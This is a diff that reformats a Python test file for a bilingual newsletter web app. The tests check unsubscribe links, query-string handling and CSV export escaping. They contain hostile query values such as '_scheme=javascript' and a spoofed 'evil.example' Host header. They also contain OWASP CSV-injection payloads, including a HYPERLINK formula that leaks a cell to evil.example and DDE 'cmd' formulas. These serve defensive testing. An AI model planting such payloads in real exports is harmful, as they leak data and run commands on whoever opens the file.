@@ -13,7 +13,6 @@ from bs4 import BeautifulSoup
 
 from bulletin.mail import tokens
 from bulletin.privacy.exporter import escape_cell
-
 from tests.conftest import csrf_token
 
 # --- 1. The unsubscribe URL does nothing but unsubscribe --------------------------------------
@@ -56,28 +55,54 @@ def test_unsubscribed_page_points_to_the_manage_link_in_the_mail_in_welsh(app, m
 # --- 2. Query strings never reach url_for -------------------------------------------------------
 
 HOSTILE_QUERIES = [
-    "endpoint=editor.dashboard", "_external=1", "_method=POST", "_anchor=x", "_scheme=https",
-    "_external=1&_scheme=javascript", "values=1", "lang=xx&_external=1",
+    "endpoint=editor.dashboard",
+    "_external=1",
+    "_method=POST",
+    "_anchor=x",
+    "_scheme=https",
+    "_external=1&_scheme=javascript",
+    "values=1",
+    "lang=xx&_external=1",
 ]
 
 
 def foreign_links(html: str) -> list[str]:
     soup = BeautifulSoup(html, "html.parser")
-    links = [tag.get("href") or tag.get("action") or tag.get("src") or ""
-             for tag in soup.find_all(["a", "link", "form", "script", "img"])]
-    return [link for link in links if re.match(r"^\s*([a-z][a-z0-9+.\-]*:|//)", link, re.I)
-            and "localhost" not in link and not link.startswith(("mailto:", "tel:"))]
+    links = [
+        tag.get("href") or tag.get("action") or tag.get("src") or ""
+        for tag in soup.find_all(["a", "link", "form", "script", "img"])
+    ]
+    return [
+        link
+        for link in links
+        if re.match(r"^\s*([a-z][a-z0-9+.\-]*:|//)", link, re.I)
+        and "localhost" not in link
+        and not link.startswith(("mailto:", "tel:"))
+    ]
 
 
 @pytest.mark.parametrize("query", HOSTILE_QUERIES)
-def test_hostile_query_strings_give_no_500_and_no_foreign_link(app, editor_client,
-                                                               make_workshop, query):
+def test_hostile_query_strings_give_no_500_and_no_foreign_link(
+    app, editor_client, make_workshop, query
+):
     make_workshop("Allyship workshop", slug="allyship")
     public = app.test_client()
-    pages = [(public, path) for path in ("/subscribe", "/manage", "/issues", "/accessibility",
-                                         "/privacy", "/workshops/allyship", "/nope")]
-    pages += [(editor_client, path) for path in ("/editor/", "/editor/workshops",
-                                                 "/editor/subscribers/export")]
+    pages = [
+        (public, path)
+        for path in (
+            "/subscribe",
+            "/manage",
+            "/issues",
+            "/accessibility",
+            "/privacy",
+            "/workshops/allyship",
+            "/nope",
+        )
+    ]
+    pages += [
+        (editor_client, path)
+        for path in ("/editor/", "/editor/workshops", "/editor/subscribers/export")
+    ]
     pages.append((app.test_client(), "/editor/login"))
     for client, path in pages:
         response = client.get(f"{path}?{query}", headers={"Host": "evil.example"})
@@ -109,18 +134,18 @@ def test_language_switch_keeps_the_real_query_and_replaces_lang(client, make_iss
 #: OWASP's CSV-injection examples and the variants that a start-of-cell check alone misses.
 DANGEROUS_CELLS = [
     "=1+2",
-    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Error: click to fix\")",
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Error: click to fix")',
     "=cmd|' /C calc'!A0",
     "@SUM(1+9)*cmd|' /C calc'!A0",
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "\t=1+2",
     "\r=1+2",
-    " =1+2",            # leading spaces: still a formula in some spreadsheets
+    " =1+2",  # leading spaces: still a formula in some spreadsheets
     "  @SUM(A1)",
-    "Ann;=cmd|' /C calc'!A0",   # a `;` list: split on `;`, the second cell is a formula
+    "Ann;=cmd|' /C calc'!A0",  # a `;` list: split on `;`, the second cell is a formula
     "Ann, =1+2",
-    "Ann,\"=1+2",
+    'Ann,"=1+2',
     "a;b; -1+cmd|' /C calc'!A0",
 ]
 SAFE_CELLS = ["Ann", "a=b", "Siân ŵ", "Jones, Ann", "O'Neil; Bryn", "2026-12-02T10:00:00+00:00"]
@@ -133,14 +158,22 @@ def test_formula_cells_are_escaped_wherever_a_spreadsheet_would_start_a_cell():
         assert escape_cell(safe) == safe
 
 
-def test_export_page_and_command_escape_the_owasp_examples(app, editor_client, runner,
-                                                           make_subscriber, tmp_path):
+def test_export_page_and_command_escape_the_owasp_examples(
+    app, editor_client, runner, make_subscriber, tmp_path
+):
     for number, name in enumerate(DANGEROUS_CELLS):
         make_subscriber(f"reader-{number}@example.org", name=name)
     page = editor_client.get("/editor/subscribers/export")
-    response = editor_client.post("/editor/subscribers/export", data={
-        "csrf_token": csrf_token(page.text), "status": "", "language": "", "topic": "",
-        "region": ""})
+    response = editor_client.post(
+        "/editor/subscribers/export",
+        data={
+            "csrf_token": csrf_token(page.text),
+            "status": "",
+            "language": "",
+            "topic": "",
+            "region": "",
+        },
+    )
     from bulletin.privacy.commands import export_command
 
     out = tmp_path / "out.csv"
@@ -155,8 +188,13 @@ def test_export_page_and_command_escape_the_owasp_examples(app, editor_client, r
 
 
 def test_archived_workshop_page_and_ics_answer_410(client, make_workshop):
-    make_workshop("Old workshop", title_cy="Hen weithdy", slug="old", is_archived=True,
-                  summary_en="A secret summary")
+    make_workshop(
+        "Old workshop",
+        title_cy="Hen weithdy",
+        slug="old",
+        is_archived=True,
+        summary_en="A secret summary",
+    )
     make_workshop("Live workshop", slug="live")
     for path in ("/workshops/old", "/workshops/old.ics"):
         response = client.get(path)
